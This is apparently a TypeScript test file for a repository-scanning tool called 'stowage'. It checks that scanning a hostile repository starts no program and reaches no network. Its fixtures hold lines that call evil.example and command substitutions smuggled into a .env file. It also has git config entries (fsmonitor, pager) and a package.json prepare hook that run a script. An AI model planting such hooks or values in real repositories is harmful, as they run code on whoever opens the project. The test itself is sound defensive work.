import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { removeScratch, scratch } from "./scratch.ts";

const root = join(__dirname, "../..");
let build = "";

/** Loaded before the command: the first try to start a program or to reach the network ends the process with 99. */
const guard = `
  const caught = (what) => () => { require("node:fs").writeSync(2, "tried " + what); process.exit(99); };
  const programs = require("node:child_process");
  for (const name of ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"]) programs[name] = caught(name);
  require("node:net").Socket.prototype.connect = caught("connect");
  require("node:dgram").createSocket = caught("createSocket");
  for (const web of [require("node:http"), require("node:https")]) for (const name of ["request", "get", "createServer"]) web[name] = caught(name);
  require("node:http2").connect = caught("connect");
  const dns = require("node:dns");
  for (const name of ["lookup", "resolve", "resolve4", "resolveTxt"]) dns[name] = dns.promises[name] = caught(name);
  globalThis.fetch = globalThis.WebSocket = caught("fetch");
`;

beforeAll(() => {
  build = scratch({ "guard.cjs": guard });
  execFileSync(process.execPath, [join(root, "build.mjs"), `--out=${join(build, "dist")}`], { stdio: "pipe" });
}, 60_000);

afterAll(removeScratch);

const marker = "#!/bin/sh\ntouch ran\n";
const hostile = {
  Dockerfile: "# syntax=evil.example/frontend\nFROM evil.example/a:latest\nADD https://evil.example/x /x\nCOPY start.sh /\nRUN ./start.sh && curl https://evil.example\nCMD [\"/start.sh\"]\n",
  "compose.yaml": "include:\n  - https://evil.example/compose.yaml\nservices:\n  a:\n    build: https://evil.example/repo.git\n    env_file: .env\n  b:\n    extends: {file: oci://evil.example/c, service: x}\n",
  ".env": "A=$(touch ran)\nB=`touch ran`\n",
  "start.sh": marker,
  "plugin.js": "require('node:fs').writeFileSync('ran', '')\n",
  "package.json": '{"scripts": {"prepare": "touch ran"}, "main": "plugin.js"}',
  ".hadolint.yaml": "ignored: [DL3007]\n",
  ".git/config": "[core]\n\tfsmonitor = ./start.sh\n\thooksPath = .\n\tpager = ./start.sh\n",
  ".git/HEAD": "ref: refs/heads/main\n",
  "node_modules/stowage/index.js": "require('node:fs').writeFileSync('ran', '')\n",
};

function run(folder: string, ...args: readonly string[]): { readonly status: number | null; readonly stderr: string } {
  const { status, stderr } = spawnSync(process.execPath, ["--require", join(build, "guard.cjs"), "-e", `require(${JSON.stringify(join(build, "dist/start.js"))}).start()`, "--", "stowage", ...args],
    { cwd: folder, encoding: "utf8", timeout: 30_000, env: { ...process.env, XDG_CACHE_HOME: join(build, "cache") } });
  return { status, stderr };
}

test("a hostile repository starts no program and reaches no network", () => {
  const folder = scratch({ ...hostile });
  chmodSync(join(folder, "start.sh"), 0o755);
  for (const args of [["--preset", "all"], ["map"], ["--preset", "all", "--fix-unsafe", "--diff"], ["--preset", "hadolint", "--format", "sarif"], ["--preset", "all", "--fix-unsafe"]]) {
    const { status, stderr } = run(folder, ...args);
    expect({ args, status: [0, 1, 2].includes(status ?? -1), tried: /tried \w+/.exec(stderr)?.[0] }).toEqual({ args, status: true, tried: undefined });
  }
  expect(existsSync(join(folder, "ran"))).toBe(false);
}, 60_000);

test("the guard of the test above does catch a program that is started", () => {
  for (const [code, tried] of [['require("node:child_process").spawnSync("true")', "spawnSync"], ['require("node:https").get("https://x.invalid")', "get"], ['fetch("https://x.invalid")', "fetch"], ['require("node:dgram").createSocket("udp4")', "createSocket"], ['require("node:net").connect(9)', "connect"]] as const) {
    const { status, stderr } = spawnSync(process.execPath, ["--require", join(build, "guard.cjs"), "-e", code], { encoding: "utf8" });
    expect({ status, stderr }).toEqual({ status: 99, stderr: `tried ${tried}` });
  }
});

test("plugins in a repository's configuration are not loaded", () => {
  const folder = scratch({ ...hostile, "stowage.yaml": "plugins: [./plugin.js]\n" });
  expect(run(folder, "--preset", "all").stderr).not.toContain("tried");
  expect(existsSync(join(folder, "ran"))).toBe(false);
}, 30_000);

test("every promise of SECURITY.md names tests that are there", () => {
  const text = readFileSync(join(root, "SECURITY.md"), "utf8");
  const promises = text.slice(text.indexOf("## What a repository cannot do"), text.indexOf("## What is not promised")).split("\n").filter((line) => line !== "" && !line.startsWith("#"));
  expect(promises.map((line) => /^\d+(?=\. \*\*)/.exec(line)?.[0])).toEqual(promises.map((_, at) => String(at + 1)));
  expect(promises.length).toBeGreaterThan(14);
  for (const promise of promises) {
    const tests = [...promise.matchAll(/test\/[\w./-]+\.test\.ts/g)].map(([path]) => path);
    expect({ promise: promise.slice(0, 40), missing: tests.length === 0 ? ["all"] : tests.filter((path) => !existsSync(join(root, path))) }).toMatchObject({ missing: [] });
  }
});
